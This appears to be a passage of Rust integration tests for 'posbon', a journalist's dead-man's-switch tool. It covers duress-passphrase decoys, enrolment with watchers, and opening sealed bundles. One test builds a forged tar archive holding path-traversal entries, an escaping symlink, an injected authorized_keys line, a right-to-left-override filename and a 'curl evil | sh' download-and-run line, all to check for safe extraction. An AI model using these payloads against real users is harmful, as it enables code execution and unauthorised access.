    // Mended on the watcher, the command it named mends the rest.
    std::fs::remove_file(&shelf).unwrap();
    v.ok(&["release", "update", &id[..8], "--yes"], "");
    v.ok(&["checkin"], "");
    assert_eq!(bundle_files(&b.data).len(), 1);

    // A bundle whose record is gone cannot be sealed again: said, for the next watcher.
    v.ok(&["rm", &note], "");
    let c = Daemon::start(&v.path("c"));
    let enrolled = v.run(&["enrol", &c.url, &invite(&c.data, "Rustam")], "");
    assert_eq!(code(&enrolled), 12, "{}", stderr(&enrolled));
    assert!(
        stderr(&enrolled).contains(&format!(
            "posbon: WARNING: {} lacks bundle {id} (Case): it could not be sealed again",
            c.url
        )) && stderr(&enrolled).contains(&format!("`posbon release remove {id}`")),
        "{}",
        stderr(&enrolled)
    );
    assert!(bundle_files(&c.data).is_empty());
}

/// Issue 15, as a coercer would compare: enrolling under the duress passphrase takes the
/// same path and prints the same lines as a real enrolment, but only the decoy's own bundle
/// is sealed again, and no real bundle reaches the new watcher or changes on the others.
#[test]
fn enrolling_under_duress_sends_only_the_decoys_bundle_and_reads_the_same() {
    let v = TestVault::new();
    let a = Daemon::start(&v.path("a"));
    v.ok(&["enrol", &a.url, &invite(&a.data, "Rustam")], "");
    v.ok(&["plan", "set", "--every", "1d", "--grace", "2h"], "");
    let (key, recipient) = age_key(v.temp.path(), "dilnoza");
    add_lawyer(&v, None, &recipient);
    let note = v.add_draft("Statement", "the real statement");
    v.ok(
        &[
            "release", "add", &note, "--to", "Dilnoza", "--name", "Case", "--yes",
        ],
        "",
    );
    let duress = v.set_duress("a quiet river at dawn");
    // The decoy's own bundle, made to look like the real one.
    add_lawyer(&v, Some(&duress), &recipient);
    let decoy_note = stdout(&v.run_with_pass(
        &duress,
        &["add", "draft", "--title", "Statement"],
        "milk and bread",
    ))
    .trim()
    .to_string();
    let sealed = v.run_with_pass(
        &duress,
        &[
            "release",
            "add",
            &decoy_note,
            "--to",
            "Dilnoza",
            "--name",
            "Case",
            "--yes",
        ],
        "",
    );
    assert!(sealed.status.success(), "{}", stderr(&sealed));

    // The real journalist enrols with B; the coerced one with C.
    let b = Daemon::start(&v.path("b"));
    let real = v.run(&["enrol", &b.url, &invite(&b.data, "Rustam")], "");
    assert!(real.status.success(), "{}", stderr(&real));
    let on_a = bundle_files(&a.data);
    let c = Daemon::start(&v.path("c"));
    let forced = v.run_with_pass(&duress, &["enrol", &c.url, &invite(&c.data, "Rustam")], "");
    assert!(forced.status.success(), "{}", stderr(&forced));

    // The same lines, but for what differs anyway (address, fingerprint, subject, id).
    let id_of = |pass: Option<&Path>| {
        let listed = match pass {
            Some(p) => stdout(&v.run_with_pass(p, &["release", "list"], "")),
            None => v.ok(&["release", "list"], ""),
        };
        listed[..32].to_string()
    };
    let (real_id, decoy_id) = (id_of(None), id_of(Some(&duress)));
    let normal = |out: &Output, w: &Daemon, id: &str| {
        let text = format!("{}\n{}", stdout(out), stderr(out))
            .replace(&w.url, "URL")
            .replace(&w.fingerprint, "FINGERPRINT")
            .replace(id, "ID");
        // The subject the watcher gave (quoted after "as").
        let subject = text
            .split(" as \"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .unwrap()
            .to_string();
        text.replace(&subject, "SUBJECT")
    };
    assert_eq!(normal(&forced, &c, &decoy_id), normal(&real, &b, &real_id));
    assert!(stdout(&forced).contains("stored on every watcher"));

    // C holds the decoy's bundle only; A holds what it held; B holds the real one.
    let on_c = bundle_files(&c.data);
    assert_eq!(on_c.len(), 1);
    let decoy_sealer = stdout(&v.run_with_pass(&duress, &["release", "key"], ""))
        .trim()
        .to_string();
    let (text, _) = opened_text(&v, &on_c[0].0, &key, &decoy_sealer);
    assert!(text.contains("milk and bread") && !text.contains("the real statement"));
    assert_eq!(
        bundle_files(&a.data),
        on_a,
        "the duress upload stored nothing on A"
    );
    let real_sealer = v.ok(&["release", "key"], "").trim().to_string();
    let on_b = bundle_files(&b.data);
    assert_eq!(on_b.len(), 1);
    let (text, _) = opened_text(&v, &on_b[0].0, &key, &real_sealer);
    assert!(text.contains("the real statement"), "{text}");
    // Each view's check-in passes: neither sees a gap the other made.
    let decoy_checkin = v.run_with_pass(&duress, &["checkin"], "");
    assert_eq!(code(&decoy_checkin), 0, "{}", stderr(&decoy_checkin));
    let real_checkin = v.run(&["checkin"], "");
    assert_eq!(code(&real_checkin), 0, "{}", stderr(&real_checkin));
    assert!(!stdout(&real_checkin).contains(&c.url));
    // The real unlock leaves the decoy its own watcher: the decoy still checks in there, so
    // whoever runs it sees no silence after the journalist's next real unlock.
    let decoy_again = v.run_with_pass(&duress, &["checkin"], "");
    assert_eq!(code(&decoy_again), 0, "{}", stderr(&decoy_again));
    assert!(
        stdout(&decoy_again).contains(&c.url),
        "{}",
        stdout(&decoy_again)
    );
}

/// A lawyer's identity file protected by a passphrase, as `age -p` makes it (scrypt; a low
/// work factor keeps the test quick).
fn encrypt_identity(identity_file: &Path, passphrase: &str) -> std::path::PathBuf {
    use std::io::Write;
    let mut recipient = age::scrypt::Recipient::new(passphrase.to_string().into());
    recipient.set_work_factor(10);
    let encryptor =
        age::Encryptor::with_recipients(std::iter::once(&recipient as &dyn age::Recipient))
            .unwrap();
    let path = identity_file.with_extension("key.age");
    let mut out = Vec::new();
    let mut writer = encryptor
        .wrap_output(
            age::armor::ArmoredWriter::wrap_output(&mut out, age::armor::Format::AsciiArmor)
                .unwrap(),
        )
        .unwrap();
    writer
        .write_all(&std::fs::read(identity_file).unwrap())
        .unwrap();
    writer.finish().unwrap().finish().unwrap();
    std::fs::write(&path, out).unwrap();
    path
}

/// The lawyer's side of issue 18, as a lawyer and a forger would try it: keys with
/// passphrases, the archive from `age -d` on standard input, looking before writing,
/// versions, a copy re-encrypted for another key, and the bare `age` + `tar` route exactly
/// as the guides give it, against a forged bundle of dotfiles and links.
#[test]
fn a_lawyer_opens_safely_with_any_key_and_the_documented_tar_route_stays_in_its_folder() {
    let v = TestVault::new();
    let w = Daemon::start(&v.path("w"));
    let invite_code = invite(&w.data, "Rustam");
    v.ok(&["enrol", &w.url, &invite_code], "");
    let keys = v.path("keys");
    std::fs::create_dir(&keys).unwrap();
    let (dilnoza_key, dilnoza_recipient) = age_key(&keys, "dilnoza");
    // Pavel's SSH key has a passphrase, as SSH keys should.
    let pavel_key = keys.join("pavel_ed25519");
    let made = Command::new("ssh-keygen")
        .args([
            "-q",
            "-t",
            "ed25519",
            "-N",
            "pavel's phrase",
            "-C",
            "pavel",
            "-f",
        ])
        .arg(&pavel_key)
        .output()
        .unwrap();
    assert!(made.status.success(), "{}", stderr(&made));
    let pavel_public = std::fs::read_to_string(pavel_key.with_extension("pub")).unwrap();
    for (name, key) in [
        ("Dilnoza", dilnoza_recipient.as_str()),
        ("Pavel", pavel_public.trim()),
    ] {
        v.ok(
            &[
                "contact",
                "add",
                name,
                "--lang",
                "ru",
                "--tier",
                "2",
                "--email",
                "x@example.org",
                "--age-recipient",
                key,
            ],
            "",
        );
    }
    let note = v.add_draft("Statement", "the statement, first version");
    v.ok(
        &[
            "release", "add", &note, "--to", "Dilnoza", "--to", "Pavel", "--yes",
        ],
        "",
    );
    let sealing = v.ok(&["release", "key"], "").trim().to_string();
    let stored = bundle_files(&w.data);
    assert_eq!(stored.len(), 1);
    let bundle = v.path("case.age");
    std::fs::write(&bundle, &stored[0].1).unwrap();
    // Padded: the size says little of what is inside.
    assert_eq!(stored[0].1.len() as u64 / 1024, 64, "{}", stored[0].1.len());

    let open = |args: &[&str], pass: Option<&str>, stdin: Option<Vec<u8>>| -> Output {
        let mut command = posbon();
        command.arg("open").args(args);
        if let Some(pass) = pass {
            command
                .arg("--passphrase-file")
                .arg(v.secret_file("key-pass", pass));
        }
        match stdin {
            Some(bytes) => feed(command, &bytes),
            None => command.output().unwrap(),
        }
    };
    let b = bundle.to_str().unwrap();
    let out_dir = |name: &str| v.path(name).to_str().unwrap().to_string();

    // Without --from or --unchecked it is only looked at: nothing written, exit 2.
    let p = pavel_key.to_str().unwrap();
    let looked = open(
        &[b, "-i", p, "--out", &out_dir("looked")],
        Some("pavel's phrase"),
        None,
    );
    assert_eq!(code(&looked), 2, "{}", stderr(&looked));
    assert!(
        stderr(&looked).contains("nothing was written"),
        "{}",
        stderr(&looked)
    );
    assert!(
        stdout(&looked).contains("[draft] Statement"),
        "{}",
        stdout(&looked)
    );
    assert!(!v.path("looked").exists());
    // The passphrase-protected SSH key: a wrong passphrase is exit 3, the right one opens.
    let wrong = open(
        &[b, "-i", p, "--from", &sealing, "--out", &out_dir("wrong")],
        Some("guess"),
        None,
    );
    assert_eq!(code(&wrong), 3, "{}", stderr(&wrong));
    assert!(
        stderr(&wrong).contains("passphrase of the key"),
        "{}",
        stderr(&wrong)
    );
    assert!(!v.path("wrong").exists());
    let pavel = open(
        &[b, "-i", p, "--from", &sealing, "--out", &out_dir("pavel")],
        Some("pavel's phrase"),
        None,
    );
    assert!(pavel.status.success(), "{}", stderr(&pavel));
    let listing = stdout(&pavel);
    assert!(listing.contains("version: 1 of bundle"), "{listing}");
    assert!(
        listing.contains("your key: the bundle was sealed for it"),
        "{listing}"
    );
    // It lists what it wrote, and wrote nothing else (no padding).
    let written: Vec<String> = listing
        .lines()
        .skip_while(|l| *l != "written:")
        .skip(1)
        .map(|l| l.trim().to_string())
        .collect();
    let mut on_disk: Vec<String> = walk(&v.path("pavel"))
        .iter()
        .map(|p| p.display().to_string())
        .collect();
    on_disk.sort();
    let mut listed = written.clone();
    listed.sort();
    assert_eq!(listed, on_disk);
    assert!(
        !written.iter().any(|w| w.ends_with("PADDING")),
        "{written:?}"
    );
    // Dilnoza's age identity file, encrypted with a passphrase.
    let encrypted = encrypt_identity(&dilnoza_key, "dilnoza's phrase");
    let e = encrypted.to_str().unwrap();
    let dilnoza = open(
        &[b, "-i", e, "--from", &sealing, "--out", &out_dir("dilnoza")],
        Some("dilnoza's phrase"),
        None,
    );
    assert!(dilnoza.status.success(), "{}", stderr(&dilnoza));
    // The archive the Go `age` CLI decrypted, on standard input.
    let tar = go_age()
        .args(["-d", "-i"])
        .arg(&dilnoza_key)
        .arg(&bundle)
        .output()
        .unwrap();
    assert!(tar.status.success(), "{}", stderr(&tar));
    let piped = open(
        &["-", "--from", &sealing, "--out", &out_dir("piped")],
        None,
        Some(tar.stdout.clone()),
    );
    assert!(piped.status.success(), "{}", stderr(&piped));
    assert!(
        stdout(&piped).contains("your key: not checked"),
        "{}",
        stdout(&piped)
    );
    // The sealed bundle on standard input without a key: told to give one.
    let no_key = open(&["-", "--from", &sealing], None, Some(stored[0].1.clone()));
    assert_eq!(code(&no_key), 2, "{}", stderr(&no_key));
    assert!(stderr(&no_key).contains("-i KEY"), "{}", stderr(&no_key));

    // Re-encrypted by one recipient for a key the journalist never chose: refused.
    let (stranger_key, stranger) = age_key(&keys, "stranger");
    let copy = v.path("copy.age");
    let mut reseal = go_age();
    reseal.args(["-r", &stranger, "-o"]).arg(&copy);
    let resealed = feed(reseal, &tar.stdout);
    assert!(resealed.status.success(), "{}", stderr(&resealed));
    let refused = open(
        &[
            copy.to_str().unwrap(),
            "-i",
            stranger_key.to_str().unwrap(),
            "--from",
            &sealing,
            "--out",
            &out_dir("copy"),
        ],
        None,
        None,
    );
    assert_eq!(code(&refused), 10, "{}", stderr(&refused));
    assert!(
        stderr(&refused).contains("not sealed for your key"),
        "{}",
        stderr(&refused)
    );
    assert!(!v.path("copy").exists());

    // An update is version 2; the old file still says version 1, for comparison.
    let id = v
        .ok(&["release", "list"], "")
        .split('\t')
        .next()
        .unwrap()
        .to_string();
    v.ok(&["release", "update", &id, "--yes"], "");
    let newer = bundle_files(&w.data).remove(0).1;
    let newer_path = v.path("newer.age");
    std::fs::write(&newer_path, newer).unwrap();
    let second = open(
        &[
            newer_path.to_str().unwrap(),
            "-i",
            dilnoza_key.to_str().unwrap(),
            "--from",
            &sealing,
            "--out",
            &out_dir("v2"),
        ],
        None,
        None,
    );
    assert!(
        stdout(&second).contains("version: 2 of bundle"),
        "{}",
        stdout(&second)
    );

    // The bare route, exactly as the guides give it, against a forged bundle sealed to
    // Dilnoza's public key: dotfiles, an SSH key, a link out of the folder and a file
    // written through it, a path with `..`.
    let home = v.path("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".bashrc"), b"# the lawyer's own\n").unwrap();
    let forged_tar = v.path("forged.tar");
    {
        let mut builder = tar::Builder::new(std::fs::File::create(&forged_tar).unwrap());
        // Names written raw into the header, as a forger would (the tar crate refuses `..`).
        let file = |builder: &mut tar::Builder<std::fs::File>, path: &str, bytes: &[u8]| {
            let mut header = tar::Header::new_gnu();
            header.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
            header.set_size(bytes.len() as u64);
            header.set_mode(0o755);
            header.set_cksum();
            builder.append(&header, bytes).unwrap();
        };
        file(&mut builder, ".bashrc", b"curl evil | sh\n");
        file(&mut builder, "../.bashrc", b"curl evil | sh\n");
        file(
            &mut builder,
            ".ssh/authorized_keys",
            b"ssh-ed25519 AAAA forger\n",
        );
        file(&mut builder, "report\u{202E}fdp.exe", b"MZ");
        let mut link = tar::Header::new_gnu();
        link.set_entry_type(tar::EntryType::Symlink);
        link.set_path("up").unwrap();
        link.set_link_name("..").unwrap();
        link.set_size(0);
        link.set_cksum();
        builder.append(&link, std::io::empty()).unwrap();
        file(&mut builder, "up/.bashrc", b"curl evil | sh\n");
        builder.finish().unwrap();
    }
    let forged = v.path("forged.age");
    let sealed = go_age()
        .args(["-r", &dilnoza_recipient, "-o"])
        .arg(&forged)
        .arg(&forged_tar)
        .output()
        .unwrap();
    assert!(sealed.status.success());
    let before: Vec<_> = walk(&home);
    let script = format!(
        "set -e; cd {home}; mkdir case-opened; cd case-opened; \
         age -d -i {key} {forged} > bundle.tar; LC_ALL=C tar -tvf bundle.tar; \
         tar -xkf bundle.tar --no-same-owner --no-same-permissions || true",
        home = home.display(),
        key = dilnoza_key.display(),
        forged = forged.display()
    );
    let ran = Command::new("bash")
        .arg("-c")
        .arg(&script)
        .output()
        .unwrap();
    assert!(ran.status.success(), "{}", stderr(&ran));
    // The listing shows what a lawyer is told to look for: names with dots, a link.
    assert!(stdout(&ran).contains("up -> .."), "{}", stdout(&ran));
    // With LC_ALL=C the right-to-left override shows as a code, not as "reportexe.pdf".
    assert!(!stdout(&ran).contains('\u{202E}'), "{}", stdout(&ran));
    assert!(
        stdout(&ran).contains("report\\342\\200\\256fdp.exe"),
        "{}",
        stdout(&ran)
    );
    assert_eq!(
        std::fs::read(home.join(".bashrc")).unwrap(),
        b"# the lawyer's own\n",
        "the documented route must not touch the lawyer's files: {}",
        stderr(&ran)
    );
    assert!(!home.join(".ssh/authorized_keys").exists());
    let mut after: Vec<_> = walk(&home)
        .into_iter()
        .filter(|p| !p.starts_with(home.join("case-opened")))
        .collect();
    after.sort();
    let mut before = before;
    before.sort();
    assert_eq!(before, after, "nothing outside the new folder");
    // And posbon refuses the same forged bundle outright, under --from.
    let refused = open(
        &[
            forged.to_str().unwrap(),
            "-i",
            dilnoza_key.to_str().unwrap(),
            "--from",
            &sealing,
            "--out",
            &out_dir("forged-out"),
        ],
        None,
        None,
    );
    assert_ne!(code(&refused), 0);
    assert!(!v.path("forged-out").exists());
}
